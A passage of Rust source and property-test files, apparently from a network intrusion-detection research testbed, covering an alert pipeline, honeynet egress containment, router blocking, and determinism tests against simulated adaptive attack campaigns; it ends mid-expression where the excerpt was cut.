    let tuning = PipelineTuning {
        alert_retention: 0,
        ..PipelineTuning::default()
    };
    BuiltPipeline::from_stages(symbolizer, filter, tagger, tuning)
        .run_threaded(records)
        .stats
}

#[cfg(test)]
mod tests {
    use super::*;
    use alertlib::filter::FilterConfig;
    use alertlib::symbolize::SymbolizerConfig;
    use detect::attack_tagger::TaggerConfig;
    use detect::train::toy_training_model;
    use simnet::flow::{ConnState, Direction, FlowId, Proto, Service};
    use simnet::time::{SimDuration, SimTime};
    use telemetry::record::ConnRecord;

    fn probe_record(i: u64) -> LogRecord {
        LogRecord::Conn(ConnRecord {
            ts: SimTime::from_secs(i),
            uid: FlowId(i),
            orig_h: "103.102.1.1".parse().unwrap(),
            orig_p: 40_000,
            resp_h: format!("141.142.2.{}", 1 + (i % 250)).parse().unwrap(),
            resp_p: 22,
            proto: Proto::Tcp,
            service: Service::Ssh,
            duration: SimDuration::ZERO,
            orig_bytes: 0,
            resp_bytes: 0,
            conn_state: ConnState::S0,
            direction: Direction::Inbound,
        })
    }

    fn stages() -> (Symbolizer, ScanFilter, AttackTagger) {
        (
            Symbolizer::new(SymbolizerConfig::default()),
            ScanFilter::new(FilterConfig::default()),
            AttackTagger::new(toy_training_model(), TaggerConfig::default()),
        )
    }

    #[test]
    fn streaming_matches_sequential() {
        let records: Vec<LogRecord> = (0..2_000).map(probe_record).collect();
        // Sequential reference, composed by hand from the raw components.
        let (mut sym, mut filt, mut tag) = stages();
        let mut seq = StreamStats::default();
        for r in &records {
            seq.records += 1;
            for a in sym.symbolize(r) {
                seq.alerts += 1;
                if filt.admit(&a) {
                    seq.admitted += 1;
                    if tag.observe(&a).is_some() {
                        seq.detections += 1;
                    }
                }
            }
        }
        // Streaming.
        let (sym, filt, tag) = stages();
        let streamed = process_records(records, sym, filt, tag);
        assert_eq!(streamed, seq);
    }

    #[test]
    fn empty_input() {
        let (sym, filt, tag) = stages();
        let stats = process_records(Vec::<LogRecord>::new(), sym, filt, tag);
        assert_eq!(stats, StreamStats::default());
    }

    /// Regression (PR 8): a stats-only (retention-off) run used to count
    /// every admitted alert as "dropped", reporting huge drop counts in a
    /// mode that never retains. Disabled retention must report discards,
    /// not drops.
    #[test]
    fn stats_only_run_reports_discards_not_drops() {
        let records: Vec<LogRecord> = (0..2_000).map(probe_record).collect();
        let (sym, filt, tag) = stages();
        let tuning = PipelineTuning {
            alert_retention: 0,
            ..PipelineTuning::default()
        };
        let report = BuiltPipeline::from_stages(sym, filt, tag, tuning).run_threaded(records);
        assert!(report.stats.admitted > 0, "workload admits alerts");
        assert_eq!(
            report.alerts_dropped, 0,
            "retention-off must not report cap drops"
        );
        assert_eq!(
            report.alerts_discarded, report.stats.admitted,
            "every admitted alert accounted as a discard"
        );
        assert!(report.retained_alerts.is_empty());
    }

    #[test]
    fn large_volume_bounded_memory() {
        // 100k probe records flow through bounded channels without
        // accumulating unbounded intermediate vectors.
        let records: Vec<LogRecord> = (0..100_000).map(probe_record).collect();
        let (sym, filt, tag) = stages();
        let stats = process_records(records, sym, filt, tag);
        assert_eq!(stats.records, 100_000);
        assert!(
            stats.admitted < stats.alerts / 10,
            "filter collapses the flood"
        );
    }
}
