//! The ATTACKTAGGER testbed orchestrator.
//!
//! Wires the whole of Fig. 4 together: an NCSA-like topology with the
//! honeynet /24 embedded in production, border routing through the shared
//! Black Hole Router filter plus the honeynet egress firewall, the monitor
//! fleet, and the in-line detection pipeline with BHR response.

use bhr::api::BhrHandle;
use bhr::policy::BhrFilter;
use factorgraph::chain::ChainModel;
use honeynet::deploy::HoneynetDeployment;
use honeynet::isolation::EgressFirewall;
use simnet::action::Action;
use simnet::engine::Engine;
use simnet::flow::Flow;
use simnet::router::{RouteDecision, RouteFilter};
use simnet::time::SimTime;
use simnet::topology::{NcsaTopologyBuilder, Topology};
use telemetry::hostmon::HostMonitor;
use telemetry::monitor::Monitor;
use telemetry::zeek::ZeekMonitor;

use crate::config::TestbedConfig;
use crate::report::RunReport;
use crate::stage::builder::PipelineBuilder;

/// Chain of border filters: the first `Drop` wins.
pub struct FilterChain<'a> {
    filters: Vec<&'a mut dyn RouteFilter>,
}

impl<'a> FilterChain<'a> {
    pub fn new(filters: Vec<&'a mut dyn RouteFilter>) -> Self {
        FilterChain { filters }
    }
}

impl RouteFilter for FilterChain<'_> {
    fn check(&mut self, t: SimTime, flow: &Flow) -> RouteDecision {
        for f in &mut self.filters {
            if let RouteDecision::Drop(reason) = f.check(t, flow) {
                return RouteDecision::Drop(reason);
            }
        }
        RouteDecision::Forward
    }
}

/// The testbed.
pub struct Testbed {
    cfg: TestbedConfig,
    engine: Engine,
    deployment: HoneynetDeployment,
    bhr: BhrHandle,
    model: ChainModel,
}

impl Testbed {
    /// Build the testbed: topology, honeynet, shared BHR. Uses the built-in
    /// toy-trained detector model; replace it with
    /// [`Testbed::set_model`] for corpus-trained detection.
    pub fn new(cfg: TestbedConfig) -> Testbed {
        let mut topo = NcsaTopologyBuilder::default().build();
        let deployment = HoneynetDeployment::install(&mut topo, &cfg.deploy);
        let engine = Engine::new(topo, cfg.start);
        Testbed {
            cfg,
            engine,
            deployment,
            bhr: BhrHandle::new(),
            model: detect::train::toy_training_model(),
        }
    }

    pub fn config(&self) -> &TestbedConfig {
        &self.cfg
    }

    pub fn topology(&self) -> &Topology {
        self.engine.topology()
    }

    pub fn deployment_mut(&mut self) -> &mut HoneynetDeployment {
        &mut self.deployment
    }

    pub fn deployment(&self) -> &HoneynetDeployment {
        &self.deployment
    }

    pub fn bhr(&self) -> &BhrHandle {
        &self.bhr
    }

    /// Install a (corpus-)trained detector model.
    pub fn set_model(&mut self, model: ChainModel) {
        self.model = model;
    }

    /// Schedule actions (from scenario scripts or generators).
    pub fn schedule(&mut self, actions: impl IntoIterator<Item = (SimTime, Action)>) {
        for (t, a) in actions {
            self.engine.schedule(t, a);
        }
    }

    /// Run everything scheduled so far through the full pipeline and
    /// return the report. Can be called repeatedly (state persists:
    /// installed blocks stay installed).
    pub fn run(&mut self) -> RunReport {
        let monitors: Vec<Box<dyn Monitor>> = vec![
            Box::new(ZeekMonitor::new(self.cfg.zeek.clone())),
            Box::new(HostMonitor::new()),
            Box::new(honeynet::isolation::IsolationMonitor::new()),
        ];
        let mut sink = PipelineBuilder::from_config(&self.cfg, self.model.clone())
            .bhr(self.bhr.clone())
            .build_sink(monitors);

        let mut bhr_filter = BhrFilter::new(self.bhr.clone(), self.cfg.auto_block.clone());
        let mut egress = EgressFirewall::new(vec![
            self.deployment.cidr(),
            "10.77.0.0/16".parse().expect("static overlay CIDR"),
        ]);
        // Monitoring/log export to the management net stays allowed.
        egress.allow("192.168.100.0/24".parse().expect("static"), None);
        {
            let mut chain =
                FilterChain::new(vec![&mut bhr_filter as &mut dyn RouteFilter, &mut egress]);
            self.engine.run_filtered(&mut chain, &mut [&mut sink], None);
        }
        let mut report = sink.finish();
        report.router = self.engine.router_stats();
        report
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use simnet::flow::FlowId;
    use simnet::router::DropReason;
    use simnet::time::SimDuration;

    #[test]
    fn filter_chain_first_drop_wins() {
        struct DropAll;
        impl RouteFilter for DropAll {
            fn check(&mut self, _t: SimTime, _f: &Flow) -> RouteDecision {
                RouteDecision::Drop(DropReason::Policy { rule: "all".into() })
            }
        }
        let mut allow = simnet::router::ForwardAll;
        let mut deny = DropAll;
        let mut chain = FilterChain::new(vec![&mut allow, &mut deny]);
        let f = Flow::probe(
            FlowId(1),
            SimTime::EPOCH,
            "1.1.1.1".parse().unwrap(),
            "141.142.1.1".parse().unwrap(),
            22,
        );
        assert!(matches!(
            chain.check(SimTime::EPOCH, &f),
            RouteDecision::Drop(_)
        ));
    }

    #[test]
    fn testbed_builds_and_runs_empty() {
        let mut tb = Testbed::new(TestbedConfig::default());
        let report = tb.run();
        assert_eq!(report.actions, 0);
        assert_eq!(tb.deployment().entry_addrs().len(), 16);
    }

    #[test]
    fn honeynet_egress_is_contained_and_alerted() {
        let mut tb = Testbed::new(TestbedConfig::default());
        let entry = tb.deployment().entry_addrs()[0];
        let t = tb.config().start + SimDuration::from_secs(10);
        // Something inside the honeynet calls out.
        tb.schedule(vec![(
            t,
            Action::Flow(Flow::probe(
                FlowId(7),
                t,
                entry,
                "194.145.22.33".parse().unwrap(),
                443,
            )),
        )]);
        let report = tb.run();
        assert_eq!(
            report.router.dropped, 1,
            "egress containment must drop the flow"
        );
        // The isolation monitor turned the drop into an alert.
        assert!(report.alerts >= 1);
    }

    #[test]
    fn run_is_repeatable_with_persistent_blocks() {
        let mut tb = Testbed::new(TestbedConfig::default());
        let t0 = tb.config().start;
        tb.bhr()
            .block(t0, "103.102.1.1".parse().unwrap(), "manual", None);
        let t = t0 + SimDuration::from_secs(5);
        tb.schedule(vec![(
            t,
            Action::Flow(Flow::probe(
                FlowId(1),
                t,
                "103.102.1.1".parse().unwrap(),
                "141.142.2.1".parse().unwrap(),
                22,
            )),
        )]);
        let r1 = tb.run();
        assert_eq!(r1.router.dropped, 1, "pre-installed block applies");
        // Second run: block persists.
        let t2 = t + SimDuration::from_secs(5);
        tb.schedule(vec![(
            t2,
            Action::Flow(Flow::probe(
                FlowId(2),
                t2,
                "103.102.1.1".parse().unwrap(),
                "141.142.2.1".parse().unwrap(),
                22,
            )),
        )]);
        let r2 = tb.run();
        assert_eq!(
            r2.router.dropped, 2,
            "router stats accumulate; block persisted"
        );
    }
}
