//! Differential and determinism properties of the closed-loop adaptive
//! attacker (PR 9):
//!
//! - the worst-case frontier search is a pure function of its seed —
//!   identical frontiers (configs attached) across two runs;
//! - the reactive detect→respond→adapt loop is replayable: same seed,
//!   same emitted stream, same evolved ground truth, same reactions;
//! - the recorded closed-loop stream replayed through the inline,
//!   threaded, and sharded executors reproduces the closed-loop run's
//!   report byte-for-byte — adaptivity does not break executor
//!   equivalence;
//! - ground-truth bookkeeping: every rotated entity is attributed to its
//!   session, so reactive evasion never inflates background-FP counts.

use proptest::prelude::*;
use scenario::adapt::ReactivePolicy;
use scenario::library::standard_library;
use scenario::mutate::CampaignConfig;
use simnet::time::SimDuration;
use testbed::adapt::{run_reactive_campaign, worst_case_frontier, FrontierConfig};
use testbed::stage::{PipelineBuilder, StreamReport};
use testbed::TestbedConfig;

fn assert_reports_identical(a: &StreamReport, b: &StreamReport) {
    assert_eq!(a.stats, b.stats);
    assert_eq!(a.filter, b.filter);
    assert_eq!(a.notifications, b.notifications);
    assert_eq!(a.retained_alerts, b.retained_alerts);
    assert_eq!(a.blocked_sources, b.blocked_sources);
    assert_eq!(a.blocks_retried, b.blocks_retried);
    assert_eq!(a.blocks_abandoned, b.blocks_abandoned);
    assert_eq!(a.campaigns, b.campaigns);
    assert_eq!(a.correlated_promotions, b.correlated_promotions);
    assert_eq!(a.correlated_confirmations, b.correlated_confirmations);
}

fn reactive_campaign_cfg(sessions: usize) -> CampaignConfig {
    let mut cfg = CampaignConfig {
        sessions,
        horizon: SimDuration::from_hours(12),
        families: standard_library(),
        ..CampaignConfig::default()
    };
    // No decoys: every session is a real kill chain, so rotations are
    // about evading response, not mimicry.
    cfg.mutation.decoy_prob = 0.0;
    // Stretch sessions enough that blocks land mid-session.
    cfg.mutation.dilation = 4.0;
    cfg
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4))]

    /// The frontier search replays exactly under any seed.
    #[test]
    fn frontier_is_seed_deterministic(seed in 0u64..10_000) {
        let cfg = TestbedConfig { seed, ..TestbedConfig::default() };
        let model = detect::train::toy_training_model();
        let families = standard_library();
        let fcfg = FrontierConfig {
            probes: 2,
            sessions: 6,
            horizon: SimDuration::from_hours(6),
            ..FrontierConfig::default()
        };
        let a = worst_case_frontier(&cfg, &model, &families[..1], &fcfg);
        let b = worst_case_frontier(&cfg, &model, &families[..1], &fcfg);
        prop_assert_eq!(a, b);
    }

    /// The reactive closed loop replays exactly under any seed: emitted
    /// stream, evolved ground truth, attacker reactions, and the
    /// pipeline report all match.
    #[test]
    fn reactive_loop_is_seed_deterministic(seed in 0u64..10_000) {
        let cfg = TestbedConfig { seed, ..TestbedConfig::default() };
        let ccfg = reactive_campaign_cfg(10);
        let run = || run_reactive_campaign(
            &cfg,
            &ccfg,
            detect::train::toy_training_model(),
            Some(ReactivePolicy::default()),
            SimDuration::from_mins(10),
        );
        let a = run();
        let b = run();
        prop_assert_eq!(&a.records, &b.records);
        prop_assert_eq!(&a.truth, &b.truth);
        prop_assert_eq!(a.stats, b.stats);
        prop_assert_eq!(a.rounds, b.rounds);
        assert_reports_identical(&a.stream, &b.stream);
    }
}

/// The block feedback actually reaches the attacker: under the default
/// reactive policy a blocking pipeline causes rotations, fresh entities
/// appear in ground truth, and no emitted attack step is unattributable.
#[test]
fn reactive_loop_rotates_and_truth_attributes_rotated_entities() {
    let cfg = TestbedConfig::default();
    let ccfg = reactive_campaign_cfg(16);
    let run = run_reactive_campaign(
        &cfg,
        &ccfg,
        detect::train::toy_training_model(),
        Some(ReactivePolicy::default()),
        SimDuration::from_mins(10),
    );
    assert!(
        run.stats.rotations > 0,
        "a blocking pipeline must trigger rotations: {:?}",
        run.stats
    );
    assert!(run.stats.fresh_entities >= run.stats.rotations);
    for s in &run.truth.sessions {
        assert_eq!(s.step_entities.len(), s.steps.len());
        for &e in &s.step_entities {
            assert!(e < s.entity_keys.len(), "step entity attributed");
        }
    }
    // Rotated entities are part of session truth, not background: with
    // zero background records there is nothing to count an FP against.
    assert_eq!(run.truth.background_records, 0);
    assert_eq!(
        run.eval.background_false_positives, 0,
        "rotated-entity detections must not leak into background FPs"
    );
}

/// The open-loop arm of the harness emits the planned campaign unchanged
/// and never reacts — the paired baseline is honest.
#[test]
fn open_loop_arm_never_reacts() {
    let cfg = TestbedConfig::default();
    let ccfg = reactive_campaign_cfg(10);
    let run = run_reactive_campaign(
        &cfg,
        &ccfg,
        detect::train::toy_training_model(),
        None,
        SimDuration::from_mins(10),
    );
    assert_eq!(run.stats.rotations, 0);
    assert_eq!(run.stats.fresh_entities, 0);
    let replan =
        scenario::mutate::generate_campaign(&ccfg, &mut simnet::rng::SimRng::seed(cfg.seed));
    assert_eq!(
        run.records, replan.records,
        "open loop emits exactly the planned stream"
    );
    assert_eq!(run.truth, replan.truth);
}

/// Executor equivalence survives adaptivity: replaying the recorded
/// closed-loop stream through all three executors reproduces the
/// closed-loop report exactly. The pipeline is a pure function of its
/// record stream; the feedback tap is a side channel.
#[test]
fn reactive_stream_replays_identically_through_all_executors() {
    let cfg = TestbedConfig::default();
    let ccfg = reactive_campaign_cfg(12);
    let run = run_reactive_campaign(
        &cfg,
        &ccfg,
        detect::train::toy_training_model(),
        Some(ReactivePolicy::default()),
        SimDuration::from_mins(10),
    );
    assert!(run.stats.rotations > 0, "exercise the adapted stream");
    let replay = |f: fn(PipelineBuilder, Vec<telemetry::record::LogRecord>) -> StreamReport| {
        f(
            PipelineBuilder::from_config(&cfg, detect::train::toy_training_model()),
            run.records.clone(),
        )
    };
    let inline = replay(|b, r| b.build().run_inline(r));
    let threaded = replay(|b, r| b.build().run_threaded(r));
    let sharded = replay(|b, r| b.detect_shards(4).build().run_sharded(r));
    assert_reports_identical(&run.stream, &inline);
    assert_reports_identical(&run.stream, &threaded);
    assert_reports_identical(&run.stream, &sharded);
}
