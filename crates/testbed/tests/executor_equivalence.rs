//! Differential properties of the pipeline executors (proptest):
//!
//! On randomized mixed record streams (scan floods, benign flows,
//! Zipf-skewed per-user command sessions), on randomized **adversarial
//! campaign workloads** (mutated attack sessions with decoys, lateral
//! hops and dilation from `scenario::mutate`), and on randomized
//! batching / capacity / shard-count tuning, the inline, threaded, and
//! sharded executors must produce results **identical** to the
//! hand-rolled sequential composition of the raw components: same stats,
//! same detection stream, same notifications, same retained alerts, same
//! blocked sources.

use proptest::prelude::*;
use scenario::mutate::{generate_campaign, CampaignConfig, MutationConfig};
use scenario::stream::{record_stream, RecordStreamConfig};
use simnet::rng::SimRng;
use simnet::time::SimDuration;
use telemetry::record::{LogRecord, NoticeKind};
use testbed::stage::{PipelineBuilder, StreamReport};
use testbed::StreamStats;

/// Rebuild a record through owned `String`s — the string-backed
/// construction path kept for tests/examples. Every interned field is
/// resolved to a fresh heap `String` and re-interned via the `From`
/// conversions a by-hand caller would use, proving the two construction
/// styles are observationally identical.
fn string_roundtrip(r: &LogRecord) -> LogRecord {
    let s = |sym: simnet::intern::Sym| -> simnet::intern::Sym { String::from(sym.as_str()).into() };
    match r {
        LogRecord::Conn(c) => LogRecord::Conn(c.clone()),
        LogRecord::Http(h) => {
            let mut h = h.clone();
            h.method = s(h.method);
            h.host = s(h.host);
            h.uri = s(h.uri);
            h.mime = s(h.mime);
            h.user_agent = s(h.user_agent);
            LogRecord::Http(h)
        }
        LogRecord::Ssh(r) => {
            let mut r = r.clone();
            r.user = s(r.user);
            r.client_banner = s(r.client_banner);
            LogRecord::Ssh(r)
        }
        LogRecord::Notice(n) => {
            let mut n = n.clone();
            if let NoticeKind::Custom(sym) = n.note {
                n.note = NoticeKind::Custom(s(sym));
            }
            n.msg = s(n.msg);
            n.sub = s(n.sub);
            LogRecord::Notice(n)
        }
        LogRecord::Process(p) => {
            let mut p = p.clone();
            p.hostname = s(p.hostname);
            p.user = s(p.user);
            p.exe = s(p.exe);
            p.cmdline = s(p.cmdline);
            LogRecord::Process(p)
        }
        LogRecord::File(f) => {
            let mut f = f.clone();
            f.hostname = s(f.hostname);
            f.user = s(f.user);
            f.path = s(f.path);
            f.process = s(f.process);
            LogRecord::File(f)
        }
        LogRecord::Auth(a) => {
            let mut a = a.clone();
            a.hostname = s(a.hostname);
            a.user = s(a.user);
            LogRecord::Auth(a)
        }
        LogRecord::Audit(a) => {
            let mut a = a.clone();
            a.hostname = s(a.hostname);
            a.user = s(a.user);
            a.syscall = s(a.syscall);
            a.args = s(a.args);
            LogRecord::Audit(a)
        }
        LogRecord::Db(d) => {
            let mut d = d.clone();
            d.user = s(d.user);
            d.statement = s(d.statement);
            LogRecord::Db(d)
        }
    }
}

fn workload(seed: u64, scans: usize, execs: usize, users: usize) -> Vec<LogRecord> {
    let cfg = RecordStreamConfig {
        scan_records: scans,
        scanners: 1 + seed as usize % 7,
        benign_flows: scans / 2,
        exec_records: execs,
        users,
        ..RecordStreamConfig::default()
    };
    record_stream(&cfg, &mut SimRng::seed(seed))
}

/// The raw sequential composition, written against the component APIs
/// directly (no stage machinery) — the ground truth the executors must
/// reproduce.
fn sequential_reference(records: &[LogRecord]) -> (StreamStats, Vec<String>) {
    let mut sym = alertlib::Symbolizer::with_defaults();
    let mut filt = alertlib::ScanFilter::default();
    let mut tag = detect::AttackTagger::new(
        detect::train::toy_training_model(),
        detect::TaggerConfig::default(),
    );
    let mut stats = StreamStats::default();
    let mut detections = Vec::new();
    for r in records {
        stats.records += 1;
        for a in sym.symbolize(r) {
            stats.alerts += 1;
            if filt.admit(&a) {
                stats.admitted += 1;
                if let Some(d) = tag.observe(&a) {
                    stats.detections += 1;
                    detections.push(format!(
                        "{}|{}|{}|{}",
                        a.entity.key(),
                        d.ts,
                        d.trigger,
                        d.stage
                    ));
                }
            }
        }
    }
    (stats, detections)
}

fn builder(batch: usize, capacity: usize, shards: usize, retention: usize) -> PipelineBuilder {
    PipelineBuilder::new()
        .batch_size(batch)
        .stage_capacity(capacity)
        .detect_shards(shards)
        .alert_retention(retention)
        .block_on_detection(true, None)
}

fn detection_keys(report: &StreamReport) -> Vec<String> {
    report
        .notifications
        .iter()
        .map(|n| {
            format!(
                "{}|{}|{}|{}",
                n.entity, n.detection.ts, n.detection.trigger, n.detection.stage
            )
        })
        .collect()
}

fn assert_reports_identical(a: &StreamReport, b: &StreamReport) {
    prop_assert_eq!(a.stats, b.stats);
    prop_assert_eq!(a.filter, b.filter);
    prop_assert_eq!(&a.notifications, &b.notifications);
    prop_assert_eq!(&a.retained_alerts, &b.retained_alerts);
    prop_assert_eq!(a.alerts_dropped, b.alerts_dropped);
    prop_assert_eq!(a.alerts_discarded, b.alerts_discarded);
    prop_assert_eq!(a.blocked_sources, b.blocked_sources);
    prop_assert_eq!(a.duplicates_suppressed, b.duplicates_suppressed);
    prop_assert_eq!(a.blocks_retried, b.blocks_retried);
    prop_assert_eq!(a.blocks_abandoned, b.blocks_abandoned);
    prop_assert_eq!(&a.fault, &b.fault);
    prop_assert_eq!(&a.campaigns, &b.campaigns);
    prop_assert_eq!(a.correlated_promotions, b.correlated_promotions);
    prop_assert_eq!(a.correlated_confirmations, b.correlated_confirmations);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(10))]

    /// All three executors equal the raw sequential composition.
    #[test]
    fn executors_match_sequential_reference(
        seed in 0u64..10_000,
        batch in 1usize..300,
        shards in 1usize..9,
        scans in 0usize..600,
        execs in 0usize..500,
        users in 1usize..40,
    ) {
        let records = workload(seed, scans, execs, users);
        let (seq_stats, seq_detections) = sequential_reference(&records);
        // Stage capacity deliberately small sometimes: back-pressure must
        // not change results.
        let capacity = batch * (1 + seed as usize % 4);
        let retention = seed as usize % 50;

        let inline = builder(batch, capacity, shards, retention)
            .build()
            .run_inline(records.clone());
        prop_assert_eq!(inline.stats, seq_stats);
        prop_assert_eq!(detection_keys(&inline), seq_detections.clone());
        prop_assert_eq!(
            inline.retained_alerts.len() as u64 + inline.alerts_dropped + inline.alerts_discarded,
            inline.stats.admitted
        );

        let threaded = builder(batch, capacity, shards, retention)
            .build()
            .run_threaded(records.clone());
        assert_reports_identical(&inline, &threaded);

        let sharded = builder(batch, capacity, shards, retention)
            .build()
            .run_sharded(records);
        assert_reports_identical(&inline, &sharded);
    }

    /// Adversarial campaign workloads — mutated multi-entity sessions
    /// interleaved with background load — shard and thread identically to
    /// the sequential reference too. This is the workload the preemption
    /// evaluation harness scores, so executor choice must be invisible to
    /// `EvalReport` as well.
    #[test]
    fn executors_agree_on_mutated_campaigns(
        seed in 0u64..100_000,
        sessions in 1usize..32,
        batch in 1usize..300,
        shards in 1usize..9,
        drop_prob in 0.0f64..0.8,
        lateral_prob in 0.0f64..1.0,
        decoy_prob in 0.0f64..0.4,
        dilation_x10 in 10u64..100,
        background in 0usize..2,
    ) {
        let cfg = CampaignConfig {
            sessions,
            horizon: SimDuration::from_hours(24),
            mutation: MutationConfig {
                drop_prob,
                lateral_prob,
                decoy_prob,
                dilation: dilation_x10 as f64 / 10.0,
                ..MutationConfig::default()
            },
            background: (background == 1).then(|| RecordStreamConfig {
                scan_records: 300,
                benign_flows: 100,
                exec_records: 200,
                users: 25,
                ..RecordStreamConfig::default()
            }),
            ..CampaignConfig::default()
        };
        let campaign = generate_campaign(&cfg, &mut SimRng::seed(seed));
        let records = campaign.records;
        let (seq_stats, seq_detections) = sequential_reference(&records);
        let capacity = batch * (1 + seed as usize % 4);
        let retention = seed as usize % 64;

        let inline = builder(batch, capacity, shards, retention)
            .build()
            .run_inline(records.clone());
        prop_assert_eq!(inline.stats, seq_stats);
        prop_assert_eq!(detection_keys(&inline), seq_detections);

        let threaded = builder(batch, capacity, shards, retention)
            .build()
            .run_threaded(records.clone());
        assert_reports_identical(&inline, &threaded);

        let sharded = builder(batch, capacity, shards, retention)
            .build()
            .run_sharded(records);
        assert_reports_identical(&inline, &sharded);

        // Scoring the identical reports yields identical evaluations.
        let eval_inline = testbed::evaluate_campaign(&inline, &campaign.truth);
        let eval_sharded = testbed::evaluate_campaign(&sharded, &campaign.truth);
        prop_assert_eq!(eval_inline, eval_sharded);
    }

    /// Pre-interned generation vs string-backed construction: a campaign
    /// whose records are round-tripped through owned `String`s (the
    /// construction path tests and examples use) must flow through the
    /// pipeline byte-identically — same `StreamReport`, same
    /// `EvalReport` — on both the inline and sharded executors.
    #[test]
    fn interned_and_string_constructed_pipelines_agree(
        seed in 0u64..100_000,
        sessions in 1usize..24,
        drop_prob in 0.0f64..0.8,
        lateral_prob in 0.0f64..1.0,
        dilation_x10 in 10u64..60,
    ) {
        let cfg = CampaignConfig {
            sessions,
            horizon: SimDuration::from_hours(24),
            mutation: MutationConfig {
                drop_prob,
                lateral_prob,
                dilation: dilation_x10 as f64 / 10.0,
                ..MutationConfig::default()
            },
            background: Some(RecordStreamConfig {
                scan_records: 300,
                benign_flows: 100,
                exec_records: 200,
                users: 25,
                ..RecordStreamConfig::default()
            }),
            ..CampaignConfig::default()
        };
        let campaign = generate_campaign(&cfg, &mut SimRng::seed(seed));
        let stringed: Vec<LogRecord> =
            campaign.records.iter().map(string_roundtrip).collect();
        // Re-interning resolves to the same symbols, so the records are
        // value-identical before the pipeline even runs...
        prop_assert_eq!(&stringed, &campaign.records);

        // ...and the pipeline results are byte-identical, inline and
        // sharded, including the scored evaluation.
        let interned = builder(64, 256, 3, 50)
            .build()
            .run_inline(campaign.records.clone());
        let from_strings = builder(64, 256, 3, 50)
            .build()
            .run_inline(stringed.clone());
        assert_reports_identical(&interned, &from_strings);
        let sharded_from_strings = builder(64, 256, 3, 50)
            .build()
            .run_sharded(stringed);
        assert_reports_identical(&interned, &sharded_from_strings);

        let eval_interned = testbed::evaluate_campaign(&interned, &campaign.truth);
        let eval_strings = testbed::evaluate_campaign(&from_strings, &campaign.truth);
        prop_assert_eq!(eval_interned, eval_strings);
    }

    /// Fault injection is part of the determinism contract: the same
    /// `FaultPlan` seed over the same input must yield a byte-identical
    /// faulted stream, and the in-pipeline injection must equal
    /// pre-faulting the stream by hand — with byte-identical detections
    /// across all three executors on top.
    #[test]
    fn faulted_streams_replay_identically_across_executors(
        seed in 0u64..100_000,
        fault_seed in 0u64..100_000,
        batch in 1usize..300,
        shards in 1usize..9,
        loss in 0.0f64..0.4,
        dup in 0.0f64..0.3,
        reorder in 0usize..48,
        scans in 0usize..400,
        execs in 0usize..400,
    ) {
        use scenario::faults::{apply_fault_plan, ClockSkewConfig, FaultPlan};
        let records = workload(seed, scans, execs, 20);
        let plan = FaultPlan::clean(fault_seed)
            .named("prop-mixed")
            .with_loss(loss)
            .with_duplication(dup)
            .with_reorder(reorder)
            .with_clock(ClockSkewConfig {
                max_skew: SimDuration::from_secs(30),
                jitter: SimDuration::from_secs(5),
            });

        // Same plan seed ⇒ byte-identical faulted stream.
        let (faulted_a, stats_a) = apply_fault_plan(&plan, &records);
        let (faulted_b, stats_b) = apply_fault_plan(&plan, &records);
        prop_assert_eq!(&faulted_a, &faulted_b);
        prop_assert_eq!(&stats_a, &stats_b);

        let capacity = batch * (1 + seed as usize % 4);
        let inline = builder(batch, capacity, shards, 50)
            .faults(plan.clone())
            .build()
            .run_inline(records.clone());
        // In-pipeline injection ≡ pre-faulting the stream by hand.
        prop_assert_eq!(inline.fault.as_ref(), Some(&stats_a));
        let pre_faulted = builder(batch, capacity, shards, 50)
            .build()
            .run_inline(faulted_a);
        prop_assert_eq!(inline.stats, pre_faulted.stats);
        prop_assert_eq!(detection_keys(&inline), detection_keys(&pre_faulted));

        let threaded = builder(batch, capacity, shards, 50)
            .faults(plan.clone())
            .build()
            .run_threaded(records.clone());
        assert_reports_identical(&inline, &threaded);

        let sharded = builder(batch, capacity, shards, 50)
            .faults(plan)
            .build()
            .run_sharded(records);
        assert_reports_identical(&inline, &sharded);
    }

    /// With the cross-entity campaign correlator enabled, the three
    /// executors must still agree byte-for-byte — including the campaign
    /// summaries, promotion counters, and the scored evaluation. Lateral
    /// splits are forced often so correlation genuinely fires.
    #[test]
    fn correlated_executors_agree_on_mutated_campaigns(
        seed in 0u64..100_000,
        sessions in 1usize..24,
        batch in 1usize..300,
        shards in 1usize..9,
        lateral_prob in 0.5f64..1.0,
        max_lateral in 2usize..5,
        decoy_prob in 0.0f64..0.3,
        background in 0usize..2,
    ) {
        let cfg = CampaignConfig {
            sessions,
            horizon: SimDuration::from_hours(24),
            mutation: MutationConfig {
                lateral_prob,
                max_lateral_entities: max_lateral,
                decoy_prob,
                ..MutationConfig::default()
            },
            background: (background == 1).then(|| RecordStreamConfig {
                scan_records: 300,
                benign_flows: 100,
                exec_records: 200,
                users: 25,
                ..RecordStreamConfig::default()
            }),
            ..CampaignConfig::default()
        };
        let campaign = generate_campaign(&cfg, &mut SimRng::seed(seed));
        let records = campaign.records;
        let capacity = batch * (1 + seed as usize % 4);
        let correlated = |batch, capacity, shards| {
            builder(batch, capacity, shards, 50)
                .correlation(detect::CorrelationPolicy::default())
        };

        let inline = correlated(batch, capacity, shards)
            .build()
            .run_inline(records.clone());
        let threaded = correlated(batch, capacity, shards)
            .build()
            .run_threaded(records.clone());
        assert_reports_identical(&inline, &threaded);

        let sharded = correlated(batch, capacity, shards)
            .build()
            .run_sharded(records);
        assert_reports_identical(&inline, &sharded);

        let eval_inline = testbed::evaluate_campaign(&inline, &campaign.truth);
        let eval_sharded = testbed::evaluate_campaign(&sharded, &campaign.truth);
        prop_assert_eq!(eval_inline, eval_sharded);
    }

    /// Link formation is order-insensitive within a batch: alerts sharing
    /// one timestamp (a batch arriving "at once") produce the same
    /// campaign partition and link multiset no matter how the batch is
    /// permuted.
    #[test]
    fn correlator_link_formation_is_order_insensitive(
        seed in 0u64..100_000,
        entities in 2usize..7,
        rounds in 1usize..4,
    ) {
        use alertlib::alert::{Alert, Entity};
        use alertlib::taxonomy::AlertKind;
        let victim: std::net::Ipv4Addr = "141.142.20.7".parse().unwrap();
        // Per entity: a hot anchor alert then a joinable follow-up, all
        // aimed at one victim, timestamps equal within each round.
        let mut batch: Vec<Alert> = Vec::new();
        for round in 0..rounds {
            for e in 0..entities {
                let src: std::net::Ipv4Addr =
                    format!("198.18.7.{}", 10 + e).parse().unwrap();
                let kind = if round == 0 {
                    AlertKind::PasswordFileAccess
                } else {
                    AlertKind::LogWipe
                };
                batch.push(
                    Alert::new(
